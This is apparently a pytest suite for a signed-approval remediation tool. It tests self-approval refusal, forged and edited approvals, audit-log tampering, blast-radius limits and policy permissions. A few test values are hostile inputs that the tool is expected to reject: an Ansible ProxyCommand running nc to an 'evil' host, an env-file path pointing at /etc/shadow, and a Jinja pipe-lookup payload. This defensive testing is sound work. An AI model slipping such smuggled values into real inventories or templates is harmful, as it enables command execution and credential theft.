"""Signed requests and approvals, and apply's refusals that need no host: nothing runs, every refusal is
audited."""

from __future__ import annotations

import dataclasses
import json
import os
import subprocess
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import yaml

from collector.config import Settings
from collector.core import Plan, Signed, UsageError
from collector.inventory import load_inventory
from collector.remediate import Refused
from collector.remediate.actions import get_action, validate_params
from collector.remediate.apply import LockHeld, apply_plan, batches, plan_lock, preflight, restart_blocked
from collector.remediate.approve import approval_problem, approve_plan, request_plan
from collector.remediate.audit import AuditLog
from collector.remediate.plan import load_plan, save_plan
from collector.remediate.policy import Policy
from collector.remediate.signing import NAMESPACE, SignatureError, Verifier


def _events(audit: AuditLog) -> list[str]:
    return [r["event"] for r in audit.records()]


def _problem(path: Path, policy: Policy, audit: AuditLog, ttl: float = 3600.0) -> str:
    _, problem = approval_problem(load_plan(path), policy, Verifier(policy.signers_path()), audit, ttl_s=ttl)
    return "" if problem is None else f"{problem.kind}: {problem.text}"


def test_a_second_person_signs_the_approval_and_openssh_verifies_it(
    plan_path: Path, keys: Any, policy: Policy, audit: AuditLog, tmp_path: Path
) -> None:
    plan, approval = approve_plan(plan_path, keys.signer("bob"), policy, audit=audit)
    assert (approval.approver, approval.requester, approval.break_glass) == ("bob", "alice", None)
    saved = load_plan(plan_path)
    assert [s.statement.role for s in saved.signed()] == ["request", "approve"]
    assert saved.requester == "alice" and _problem(plan_path, policy, audit) == ""
    assert _events(audit) == ["plan", "approve"]
    # The test checks the signature with OpenSSH itself, not through our code.
    signed = saved.signed("approve")[0]
    (tmp_path / "a.sig").write_text(signed.signature)
    done = subprocess.run(
        [
            "ssh-keygen",
            "-Y",
            "verify",
            "-f",
            str(keys.allowed_signers),
            "-I",
            "bob",
            "-n",
            NAMESPACE,
            "-s",
            str(tmp_path / "a.sig"),
        ],
        input=signed.statement.message(),
        capture_output=True,
        check=False,
    )
    assert done.returncode == 0 and b'Good "incident-collector" signature for bob' in done.stdout
    statement = json.loads(signed.statement.message())
    assert statement["plan_hash"] == plan.hash and statement["role"] == "approve" and statement["expires"]


def test_self_approval_under_any_name_is_refused_and_audited(
    plan_path: Path, keys: Any, policy: Policy, audit: AuditLog
) -> None:
    with pytest.raises(Refused, match="alice requested this plan and cannot approve it"):
        approve_plan(plan_path, keys.signer("alice"), policy, audit=audit)
    with pytest.raises(SignatureError, match="--as bob does not match the key's principal alice"):
        approve_plan(plan_path, keys.signer("alice"), policy, audit=audit, as_name="bob")
    assert [s.statement.role for s in load_plan(plan_path).signed()] == ["request"]
    assert _events(audit) == ["plan", "approve-refused", "approve-refused"]
    assert [r.get("kind") for r in audit.records()][1:] == ["self-approved", "unsigned"]


def test_an_unlisted_key_signs_nothing(plan_path: Path, keys: Any, policy: Policy, audit: AuditLog) -> None:
    with pytest.raises(SignatureError, match="not in allowed_signers .*key SHA256:"):
        approve_plan(plan_path, keys.signer("mallory"), policy, audit=audit)
    assert len(load_plan(plan_path).statements) == 1 and _events(audit) == ["plan", "approve-refused"]
    assert (
        list(audit.records())[-1]["kind"] == "unsigned" and list(audit.records())[-1]["actor"] == "unverified"
    )


def test_break_glass_only_for_break_glass_principals(
    inventory_file: Path,
    tmp_path: Path,
    keys: Any,
    policy: Policy,
    audit: AuditLog,
    make_plan: Callable[..., Plan],
) -> None:
    own = request_plan(make_plan(inventory_file), tmp_path / "c.json", keys.signer("carol"), policy, audit)
    _, approval = approve_plan(
        tmp_path / "c.json", keys.signer("carol"), policy, audit=audit, break_glass="sev1, nobody else awake"
    )
    assert approval.break_glass == "sev1, nobody else awake" and own.requester == "carol"
    assert (
        _events(audit)[-2:] == ["approve", "break-glass"]
        and _problem(tmp_path / "c.json", policy, audit) == ""
    )
    request_plan(make_plan(inventory_file), tmp_path / "a.json", keys.signer("alice"), policy, audit)
    with pytest.raises(Refused, match="alice may not break glass"):
        approve_plan(tmp_path / "a.json", keys.signer("alice"), policy, audit=audit, break_glass="me")


def test_expired_revived_forged_and_edited_approvals_are_refused(
    plan_path: Path, keys: Any, policy: Policy, audit: AuditLog, inventory_file: Path
) -> None:
    assert _problem(plan_path, policy, audit).startswith("unapproved")
    approve_plan(plan_path, keys.signer("bob"), policy, audit=audit)
    assert _problem(plan_path, policy, audit, ttl=0.0).startswith("expired")
    good = plan_path.read_text()
    # Revived expiry: the statement's expiry edited in the plan file no longer matches its signature.
    doc = json.loads(good)
    doc["statements"][1]["statement"]["expires"] = "2099-01-01T00:00:00.000Z"
    plan_path.write_text(json.dumps(doc))
    assert "signature does not verify" in _problem(plan_path, policy, audit)
    # Forged: a statement "by bob" signed with mallory's key, written into plan and audit log by hand.
    doc = json.loads(good)
    forged = Signed.from_dict(doc["statements"][1])
    fake = keys.signer("mallory").sign(forged.statement.message())
    doc["statements"][1]["signature"] = fake
    plan_path.write_text(json.dumps(doc))
    audit.append(
        "approve", actor="bob", plan_hash=doc["hash"], approver="bob", signed=dict(doc["statements"][1])
    )
    assert "unsigned" in _problem(plan_path, policy, audit) and "not in allowed_signers" in _problem(
        plan_path, policy, audit
    )
    # Edited parameters: the content no longer matches the hash; re-hashed, the signatures name the old hash.
    doc = json.loads(good)
    doc["params"]["size"] = 500
    plan_path.write_text(json.dumps(doc))
    assert _problem(plan_path, policy, audit).startswith("changed-plan")
    rehashed = load_plan(plan_path)
    rehashed.hash = rehashed.compute_hash()
    save_plan(rehashed, plan_path)
    assert _problem(plan_path, policy, audit).startswith("unsigned: plan")
    # A valid approval that is not in the audit log (the log was replaced) does not count.
    plan_path.write_text(good)
    assert _problem(plan_path, policy, AuditLog(policy.audit_log + ".other")).startswith("unapproved")


def test_apply_refuses_before_touching_any_host(
    plan_path: Path, keys: Any, policy: Policy, audit: AuditLog, settings: Settings
) -> None:
    with pytest.raises(Refused, match="not approved.*nothing was changed"):
        apply_plan(plan_path, settings, signer=keys.signer("bob"), policy=policy, collect_after=False)
    assert _events(audit)[-1] == "apply-refused" and list(audit.records())[-1]["kind"] == "unapproved"


def test_an_approval_is_consumed_by_its_apply(
    plan_path: Path, keys: Any, policy: Policy, audit: AuditLog
) -> None:
    _, approval = approve_plan(plan_path, keys.signer("bob"), policy, audit=audit)
    audit.append(
        "apply-start",
        actor="alice",
        plan_hash=approval.signed.statement.plan_hash,
        run="r1",
        approval=approval.digest,
    )
    assert _problem(plan_path, policy, audit).startswith("consumed: the approval by bob was already used")
    approve_plan(plan_path, keys.signer("carol"), policy, audit=audit)  # a fresh approval: runnable again
    assert _problem(plan_path, policy, audit) == ""


def test_binding_names_what_changed_after_approval(
    plan_path: Path, keys: Any, policy: Policy, audit: AuditLog, inventory_file: Path
) -> None:
    approve_plan(plan_path, keys.signer("bob"), policy, audit=audit)
    approved = load_plan(plan_path)
    action = get_action("pool-resize")
    verifier = Verifier(policy.signers_path())
    limits = policy.limits()
    original = inventory_file.read_text()
    edits = {
        "ansible_host": original.replace("app1: {ansible_host: 127.0.0.1", "app1: {ansible_host: 10.9.9.9"),
        "proxy": original.replace(
            "app1: {", "app1: {ansible_ssh_common_args: '-o ProxyCommand=nc evil 22', "
        ),
        "env_file": original.replace("app1: {", "app1: {collector_env_file: /etc/shadow, "),
    }
    for name, text in edits.items():
        inventory_file.write_text(text)
        with pytest.raises(
            Refused,
            match=r"changed since the plan was approved: inventory file .* changed; "
            r"connection/collector_\* variables of app1 changed",
        ):
            preflight(
                approved,
                action,
                policy,
                limits,
                audit,
                verifier,
                max_hosts=None,
                inv=load_inventory(str(inventory_file)),
            )
        assert list(audit.records())[-1]["kind"] == "changed-plan", name
    inventory_file.write_text(original)
    preflight(
        approved,
        action,
        policy,
        limits,
        audit,
        verifier,
        max_hosts=None,
        inv=load_inventory(str(inventory_file)),
    )


def test_playbook_edited_after_approval_is_refused(
    inventory_file: Path,
    tmp_path: Path,
    keys: Any,
    policy: Policy,
    audit: AuditLog,
    make_plan: Callable[..., Plan],
) -> None:
    import shutil

    from collector.paths import resource
    from collector.remediate.plan import compute_binding

    books = tmp_path / "playbooks"
    shutil.copytree(resource("playbooks"), books)
    own = dataclasses.replace(policy, playbooks_dir=str(books))
    plan = make_plan(inventory_file)
    plan.binding = compute_binding(
        get_action("pool-resize"), load_inventory(str(inventory_file)), plan.targets, books
    )
    plan.hash = plan.compute_hash()
    request_plan(plan, tmp_path / "p.json", keys.signer("alice"), own, audit)
    approve_plan(tmp_path / "p.json", keys.signer("bob"), own, audit=audit)
    for edited in (
        books / "remediate" / "pool-resize.yml",
        books / "remediate" / "tasks" / "wait_healthy.yml",
        books / "remediate" / "library" / "collector_change.py",
    ):
        keep = edited.read_text()
        edited.write_text(keep + "\n# edited\n")
        with pytest.raises(
            Refused, match=f"playbook file remediate/{edited.relative_to(books / 'remediate')} changed"
        ):
            preflight(
                load_plan(tmp_path / "p.json"),
                get_action("pool-resize"),
                own,
                own.limits(),
                audit,
                Verifier(own.signers_path()),
                max_hosts=None,
                inv=load_inventory(str(inventory_file)),
            )
        edited.write_text(keep)


def test_limits_only_tighten_and_blast_radius(
    plan_path: Path, keys: Any, policy: Policy, audit: AuditLog, monkeypatch: pytest.MonkeyPatch
) -> None:
    from collector.config import load_settings

    monkeypatch.setenv("COLLECTOR_RESTART_MIN_INTERVAL_S", "0")
    monkeypatch.setenv("COLLECTOR_BLAST_RADIUS", "1000")
    monkeypatch.setenv("COLLECTOR_APPROVAL_TTL_S", "999999")
    monkeypatch.setenv("COLLECTOR_BATCH_SIZE", "50")
    monkeypatch.setenv("COLLECTOR_AUDIT_LOG", "/tmp/elsewhere.jsonl")
    loose = policy.limits(load_settings())
    assert (loose.restart_min_interval_s, loose.blast_radius, loose.approval_ttl_s, loose.batch_size) == (
        60.0,
        10,
        3600.0,
        2,
    )
    monkeypatch.setenv("COLLECTOR_BLAST_RADIUS", "1")
    monkeypatch.setenv("COLLECTOR_RESTART_MIN_INTERVAL_S", "600")
    tight = policy.limits(load_settings())
    assert (tight.blast_radius, tight.restart_min_interval_s) == (1, 600.0)
    approve_plan(plan_path, keys.signer("bob"), policy, audit=audit)
    approved, inv, verifier = (
        load_plan(plan_path),
        load_inventory(load_plan(plan_path).inventory),
        Verifier(policy.signers_path()),
    )
    with pytest.raises(
        Refused, match="more than the blast-radius limit of 1; raise it explicitly with --max-hosts 2"
    ):
        preflight(
            approved, get_action("pool-resize"), policy, tight, audit, verifier, max_hosts=None, inv=inv
        )
    preflight(approved, get_action("pool-resize"), policy, tight, audit, verifier, max_hosts=2, inv=inv)
    with pytest.raises(Refused, match="above the policy's max_hosts 20"):
        preflight(approved, get_action("pool-resize"), policy, tight, audit, verifier, max_hosts=21, inv=inv)
    assert not Path("/tmp/elsewhere.jsonl").exists()


def test_jinja_in_a_parameter_is_refused_at_plan_time() -> None:
    for value in ("{{ lookup('pipe', 'id') }}", "{% if 1 %}5{% endif %}", "5{#x#}"):
        with pytest.raises(UsageError, match="Jinja template marker"):
            validate_params(get_action("memory-limit"), {"max": value})


def test_a_second_concurrent_apply_is_refused_naming_the_holder(tmp_path: Path) -> None:
    with (
        plan_lock(tmp_path, "h" * 64, {"principal": "bob", "pid": 42, "host": "ctl", "since": "T"}),
        pytest.raises(LockHeld, match=r"bob \(pid 42 on ctl, since T\)"),
        plan_lock(tmp_path, "h" * 64, {"principal": "carol"}),
    ):
        pass
    with plan_lock(tmp_path, "h" * 64, {"principal": "carol"}):  # released afterwards
        pass


def test_apply_refuses_a_broken_audit_log(
    plan_path: Path, keys: Any, policy: Policy, audit: AuditLog, settings: Settings
) -> None:
    approve_plan(plan_path, keys.signer("bob"), policy, audit=audit)
    lines = audit.path.read_text().splitlines()
    record = json.loads(lines[0])
    record["targets"] = ["app1"]
    audit.path.write_text("\n".join([json.dumps(record)] + lines[1:]) + "\n")
    with pytest.raises(Refused, match="audit log .* does not verify \\(line 1\\): record edited"):
        apply_plan(plan_path, settings, signer=keys.signer("alice"), policy=policy, collect_after=False)


def test_canary_first_then_batches() -> None:
    assert batches(["a", "b", "c", "d", "e"], 2) == [["a"], ["b", "c"], ["d", "e"]]
    assert batches(["a"], 3) == [["a"]]
    assert batches([], 3) == []


def test_restarts_are_rate_limited_per_host(tmp_path: Path) -> None:
    audit = AuditLog(tmp_path / "a.jsonl")
    audit.append("apply-host", host="app1", restarted=True)
    audit.append("apply-host", host="app2", restarted=False)
    blocked = restart_blocked(get_action("restart"), ["app1", "app2"], audit, 60.0)
    assert list(blocked) == ["app1"] and 0 < blocked["app1"] <= 60
    assert restart_blocked(get_action("circuit-breaker"), ["app1"], audit, 60.0) == {}
    assert restart_blocked(get_action("restart"), ["app1"], audit, 0.0) == {}


def test_plans_and_audit_log_are_private(plan_path: Path, policy: Policy) -> None:
    assert plan_path.stat().st_mode & 0o777 == 0o600 and plan_path.parent.stat().st_mode & 0o777 == 0o700
    log = Path(policy.audit_log)
    assert log.stat().st_mode & 0o777 == 0o600 and log.parent.stat().st_mode & 0o777 == 0o700


def _write_policy(path: Path, keys: Any, **extra: object) -> Path:
    doc = {
        "allowed_signers": str(keys.allowed_signers),
        "requesters": ["alice"],
        "approvers": {"*": ["bob"]},
        **extra,
    }
    path.write_text(yaml.safe_dump(doc))
    path.chmod(0o644)
    return path


def test_policy_file_ownership_and_shape(tmp_path: Path, keys: Any) -> None:
    from collector.remediate.policy import PolicyError, load_policy

    path = _write_policy(tmp_path / "policy.yml", keys, blast_radius=3)
    assert load_policy(path).blast_radius == 3
    path.chmod(0o664)
    with pytest.raises(PolicyError, match=r"policy .*policy.yml is group- or world-writable \(mode 0664\)"):
        load_policy(path)
    path.chmod(0o644)
    if os.geteuid() == 0:
        os.chown(path, 1000, 1000)
        with pytest.raises(
            PolicyError, match="owned by uid 1000, not root; refusing it while running as root"
        ):
            load_policy(path)
        os.chown(path, 0, 0)
    path.write_text("allowed_signers: [unclosed\n")
    with pytest.raises(PolicyError, match=f"policy {path} is not valid YAML"):
        load_policy(path)
    _write_policy(path, keys, blast_radus=3)
    with pytest.raises(PolicyError, match="unknown field 'blast_radus'"):
        load_policy(path)
    with pytest.raises(PolicyError, match="no remediation policy at"):
        load_policy(tmp_path / "none.yml")
    signers = tmp_path / "signers"
    signers.write_text(keys.allowed_signers.read_text())
    signers.chmod(0o666)
    path.write_text(yaml.safe_dump({"allowed_signers": str(signers)}))
    with pytest.raises(PolicyError, match=f"allowed_signers {signers} is group- or world-writable"):
        load_policy(path)


def test_bad_keys_are_one_line(tmp_path: Path, keys: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    from collector.remediate.signing import signer_for

    with pytest.raises(SignatureError, match=f"signing key {tmp_path}/nokey does not exist"):
        signer_for(str(tmp_path / "nokey"))
    monkeypatch.delenv("SSH_AUTH_SOCK", raising=False)
    with pytest.raises(SignatureError, match="no signing key: pass --key FILE"):
        signer_for(None)
    agent = subprocess.run(["ssh-agent", "-s"], capture_output=True, text=True, check=True).stdout
    env = dict(part.split("=", 1) for part in agent.replace(";", "\n").split() if "=" in part)
    monkeypatch.setenv("SSH_AUTH_SOCK", env["SSH_AUTH_SOCK"])
    try:
        with pytest.raises(SignatureError, match=f"ssh-agent at {env['SSH_AUTH_SOCK']} holds no key"):
            signer_for(None)
        subprocess.run(["ssh-add", "-q", str(keys.key("bob"))], check=True, capture_output=True)
        signer = signer_for(None, allowed_signers=keys.allowed_signers)
        sig = signer.sign(b"hello")
        assert Verifier(keys.allowed_signers).principal(b"hello", sig) == "bob"
    finally:
        os.kill(int(env["SSH_AGENT_PID"]), 15)
    broken = "-----BEGIN SSH SIGNATURE-----\nAAAA\n-----END SSH SIGNATURE-----\n"
    with pytest.raises(SignatureError, match="signature is malformed"):
        Verifier(keys.allowed_signers).principal(b"hello", broken)


def test_unsigned_plan_copied_from_a_signed_one_is_refused(
    plan: Plan, tmp_path: Path, policy: Policy, audit: AuditLog
) -> None:
    path = save_plan(plan, tmp_path / "raw.json")
    assert _problem(path, policy, audit).startswith("unsigned: plan")


def test_only_the_policys_approvers_approve(
    inventory_file: Path,
    tmp_path: Path,
    keys: Any,
    policy: Policy,
    audit: AuditLog,
    make_plan: Callable[..., Plan],
) -> None:
    request_plan(make_plan(inventory_file), tmp_path / "c.json", keys.signer("carol"), policy, audit)
    with pytest.raises(Refused, match="alice may not approve pool-resize"):
        approve_plan(tmp_path / "c.json", keys.signer("alice"), policy, audit=audit)
    narrow = dataclasses.replace(policy, approvers={"rollback": ("bob",)})
    with pytest.raises(Refused, match="bob may not approve pool-resize"):
        approve_plan(tmp_path / "c.json", keys.signer("bob"), narrow, audit=audit)
    assert [r.get("kind") for r in audit.records()][-2:] == ["policy-violation", "policy-violation"]


def test_a_broken_key_file_is_one_line(tmp_path: Path) -> None:
    from collector.remediate.signing import signer_for

    bad = tmp_path / "garbage"
    bad.write_text("not a key\n")
    bad.chmod(0o600)
    with pytest.raises(SignatureError, match=f"signing with {bad} failed"):
        signer_for(str(bad)).sign(b"x")
